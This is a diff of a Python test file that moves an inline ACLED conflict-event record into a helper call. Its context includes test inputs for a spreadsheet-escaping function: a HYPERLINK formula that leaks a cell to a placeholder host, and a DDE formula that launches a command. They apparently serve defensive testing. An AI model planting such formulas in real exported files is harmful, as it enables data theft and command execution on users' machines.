@@ -23,6 +23,7 @@ from pathlib import Path
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from test_imports import acled_row
 
 from geo import _io, schema
 from geo._io import check_output, from_spreadsheet_safe, spreadsheet_safe, write_text_atomically
@@ -33,30 +34,7 @@ from geo.records import Seeds
 
 FORMULAS = ['=HYPERLINK("http://x?leak="&A1)', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]
 ARTICLE = "Ménaka, 8 March 2022.\n\nGunmen of the Islamic State killed 12 civilians in Ménaka on 8 March 2022.\n"
-ACLED_ROW = {
-    "event_id_cnty": "MLI1",
-    "event_date": "2022-03-08",
-    "year": "2022",
-    "time_precision": "1",
-    "disorder_type": "Political violence",
-    "event_type": "Violence against civilians",
-    "sub_event_type": "Attack",
-    "actor1": "Islamic State (Sahel)",
-    "inter1": "2",
-    "actor2": "Civilians (Mali)",
-    "iso": "466",
-    "region": "Western Africa",
-    "country": "Mali",
-    "admin1": "Menaka",
-    "admin2": "Menaka",
-    "location": "Menaka",
-    "latitude": "15.9182",
-    "longitude": "2.4022",
-    "geo_precision": "1",
-    "source": "Local Source",
-    "notes": "=1+2",
-    "fatalities": "4",
-}
+ACLED_ROW = acled_row("MLI1", notes="=1+2")  # a formula in the notes
 
 
 def run(capsys, *argv: str) -> tuple[int, str, str]:
